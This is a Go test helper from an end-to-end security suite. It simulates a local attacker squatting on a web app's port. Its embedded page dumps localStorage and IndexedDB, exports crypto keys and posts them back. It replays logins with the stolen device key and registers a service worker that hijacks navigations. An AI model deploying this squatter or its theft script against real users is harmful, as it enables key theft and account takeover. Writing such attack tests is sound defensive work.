// Command squatter is what another local user runs on hooksup web's port while it is down, in
// the tests of cmd/hooksup/web_squat_e2e_test.go. It logs every request (its headers and body)
// as a JSON line; serves hooksup's own page as it saved it (-mirror: its index.html, with the
// challenge the real server served it, and its script), so that a tab that logs in there signs
// a challenge of the real server's; answers every API request 401, so the tab logs in; and at
// /steal serves a page that dumps the origin's localStorage and IndexedDB (every record, a
// CryptoKey's JWK where it can be exported) and then, for as long as it is open, tries to log in
// to whatever answers on the port with the device key it found, counting its attempts in the
// page (#attempts, #logins). /steal?worker also registers a service worker that answers every
// navigation with the squatter's page; /steal?pushworker registers that worker at the path of
// hooksup's push worker, /push/worker.js, for the whole origin (Service-Worker-Allowed: /).
package main

import (
	"encoding/json"
	"flag"
	"io"
	"log"
	"net/http"
	"os"
	"path/filepath"
	"sync"
)

const steal = `<!doctype html><title>not hooksup</title><p id="s">squatted</p><p>attempts <span id="attempts">0</span>,
reached <span id="reached">0</span>, logins <span id="logins">0</span></p><script>
async function records() {
  const out = [];
  for (const info of await indexedDB.databases()) {
    const db = await new Promise((res, rej) => { const r = indexedDB.open(info.name); r.onsuccess = () => res(r.result); r.onerror = () => rej(r.error); });
    for (const store of db.objectStoreNames) {
      const rows = await new Promise((res) => { const all = []; const c = db.transaction(store).objectStore(store).openCursor();
        c.onsuccess = () => { const cur = c.result; if (!cur) return res(all); all.push([cur.key, cur.value]); cur.continue(); }; });
      for (const [k, v] of rows) out.push({ db: info.name, store, key: String(k), value: v });
    }
    db.close();
  }
  return out;
}
async function dump() {
  const out = { localStorage: {}, indexedDB: [] };
  for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); out.localStorage[k] = localStorage.getItem(k); }
  for (const r of await records()) {
    const rec = { db: r.db, store: r.store, key: r.key, fields: {} };
    for (const [f, x] of Object.entries(r.value || {})) {
      if (x instanceof CryptoKey) {
        let jwk = null, err = null;
        try { jwk = await crypto.subtle.exportKey("jwk", x); } catch (e) { err = String(e); }
        rec.fields[f] = { cryptoKey: true, type: x.type, extractable: x.extractable, jwk, err };
      } else rec.fields[f] = x;
    }
    out.indexedDB.push(rec);
  }
  return out;
}
const b64url = (buf) => btoa(String.fromCharCode(...new Uint8Array(buf))).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
const bump = (id) => { const e = document.getElementById(id); e.textContent = String(Number(e.textContent) + 1); };
// attack tries, once, to log in with the device key: a challenge from a load of the page (the
// only way a script can ask for one), signed, sent to /api/login; then an answer with the token.
async function attack() {
  bump("attempts");
  const dev = (await records()).map((r) => r.value).find((v) => v && v.key instanceof CryptoKey);
  if (!dev) return;
  const page = await (await fetch("/", { cache: "no-store" })).text();
  const m = /name="hooksup-challenge" content="([0-9a-f]*)"/.exec(page);
  if (!m) return; // not hooksup's page: the squatter still holds the port
  bump("reached");
  const challenge = m[1];
  const sig = await crypto.subtle.sign({ name: "ECDSA", hash: "SHA-256" }, dev.key,
    new TextEncoder().encode("hooksup web login\n" + location.origin + "\n" + dev.id + "\n" + challenge));
  const r = await fetch("/api/login", { method: "POST", headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ device: dev.id, challenge, signature: b64url(sig) }) });
  if (r.ok) bump("logins");
}
dump().then((d) => fetch("/dump", { method: "POST", body: JSON.stringify(d) }))
  .catch((e) => fetch("/dump", { method: "POST", body: JSON.stringify({ error: String(e) }) }))
  .finally(() => {
    document.getElementById("s").textContent = "dumped";
    const q = new URLSearchParams(location.search);
    if (q.has("worker")) navigator.serviceWorker.register("/sw.js").then(() => { document.getElementById("s").textContent = "worker"; });
    // At the push worker's own path, with the whole origin for its scope (the server allows it).
    if (q.has("pushworker")) navigator.serviceWorker.register("/push/worker.js", { scope: "/" }).then(() => { document.getElementById("s").textContent = "worker"; });
    setInterval(() => attack().catch(() => {}), 300);
  });
</script>`

const worker = `self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (e) => {
  if (e.request.mode === "navigate") e.respondWith(new Response("<!doctype html><title>not hooksup</title><p id=s>the squatter's worker</p>", { headers: { "Content-Type": "text/html" } }));
});`

func main() {
	listen := flag.String("listen", "", "")
	logPath := flag.String("log", "", "")
	mirror := flag.String("mirror", "", "a directory holding hooksup's page as the real server served it")
	flag.Parse()
	f, err := os.OpenFile(*logPath, os.O_WRONLY|os.O_APPEND|os.O_CREATE, 0o644)
	if err != nil {
		log.Fatal(err)
	}
	var mu sync.Mutex
	enc := json.NewEncoder(f)
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		mu.Lock()
		enc.Encode(map[string]any{"method": r.Method, "path": r.URL.RequestURI(), "header": r.Header, "body": string(body)})
		f.Sync()
		mu.Unlock()
		// Kept for a year: the browser loads them from its cache once the real server is back.
		w.Header().Set("Cache-Control", "max-age=31536000")
		switch p := r.URL.Path; {
		case p == "/sw.js", p == "/push/worker.js":
			w.Header().Set("Content-Type", "text/javascript")
			w.Header().Set("Service-Worker-Allowed", "/")
			io.WriteString(w, worker)
		case p == "/steal":
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, steal)
		case p == "/dump":
		case len(p) > 5 && p[:5] == "/api/":
			w.Header().Set("Cache-Control", "no-store")
			w.WriteHeader(http.StatusUnauthorized) // the page logs in again: its signature is logged
		case *mirror != "":
			name := filepath.Base(p)
			if p == "/" {
				name = "index.html"
			}
			http.ServeFile(w, r, filepath.Join(*mirror, name))
		default:
			http.NotFound(w, r)
		}
	})
	log.Fatal(http.ListenAndServe(*listen, h))
}
